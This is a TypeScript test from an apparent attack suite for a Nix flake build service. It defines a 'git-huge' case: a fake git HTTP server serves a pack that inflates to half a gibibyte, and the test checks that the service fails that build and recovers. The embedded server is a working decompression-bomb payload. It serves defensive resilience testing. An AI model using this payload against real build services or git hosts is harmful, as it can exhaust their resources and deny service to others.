import { type Attack, mustHold } from '../attack.ts';
import { outcomeOfBuild, request } from '../own-builds.ts';
import { serve } from '../own-pods.ts';

/** A repository of one flake and one file of half a gibibyte of nothing, packed to half a megabyte. */
const program = `
const { createHash } = require('crypto');
const { deflateSync } = require('zlib');
const line = (text) => (text.length + 4).toString(16).padStart(4, '0') + text;
const objects = [];
const object = (type, kind, content) => {
  const size = [];
  let left = content.length >> 4, first = (kind << 4) | (content.length & 15);
  for (; left > 0; left >>>= 7) { size.push(first | 0x80); first = left & 0x7f; }
  size.push(first);
  objects.push(Buffer.concat([Buffer.from(size), deflateSync(content)]));
  return createHash('sha1').update(type + ' ' + content.length + '\\0').update(content).digest();
};
const flake = object('blob', 3, Buffer.from('{ outputs = { self }: { }; }'));
const huge = object('blob', 3, Buffer.alloc(2 ** 29));
const tree = object('tree', 2, Buffer.concat([
  Buffer.from('100644 flake.nix\\0'), flake, Buffer.from('100644 huge\\0'), huge,
]));
const who = 'a <a@a.example> 1700000000 +0000';
const text = 'tree ' + tree.toString('hex') + '\\nauthor ' + who + '\\ncommitter ' + who + '\\n\\nhuge\\n';
const version = object('commit', 1, Buffer.from(text)).toString('hex');
const head = Buffer.from('PACK\\0\\0\\0\\x02\\0\\0\\0\\x04', 'latin1');
const pack = Buffer.concat([head, ...objects]);
const packed = Buffer.concat([pack, createHash('sha1').update(pack).digest()]);
require('http').createServer((request, response) => {
  if (request.method === 'GET') {
    response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' });
    const advertised = version + ' HEAD\\0shallow symref=HEAD:refs/heads/main\\n';
    return response.end(line('# service=git-upload-pack\\n') + '0000' + line(advertised) + line(version + ' refs/heads/main\\n') + '0000');
  }
  response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-result' });
  response.write(line('NAK\\n'));
  response.end(packed);
}).listen(8080);
`;

export const attack: Attack = {
  name: 'git-huge',
  kind: 'gets more of a node',
  rights: 'the host of a flake',
  steps: 'sends a repository of half a megabyte whose one file is half a gibibyte',
  holds:
    'the build ends by itself with a failure, others build meanwhile, and the next build of the namespace is built',
  quick: false,
  async run(session) {
    const host = await serve(session, 'host', program);
    await request(session, { name: 'huge', flakeUrl: `git+http://${host}:8080/flake.git?ref=main` });
    await session.victimBuilds();
    const { status } = await outcomeOfBuild(session, 'huge', 300);
    mustHold(status.failure?.reason === 'AttributeNotFound', JSON.stringify(status.failure ?? status.status));
    await request(session, { name: 'next', flakeUrl: session.flake('hello') });
    const next = await outcomeOfBuild(session, 'next');
    mustHold(next.status.status === 'Succeeded', JSON.stringify(next.status.failure));
  },
};
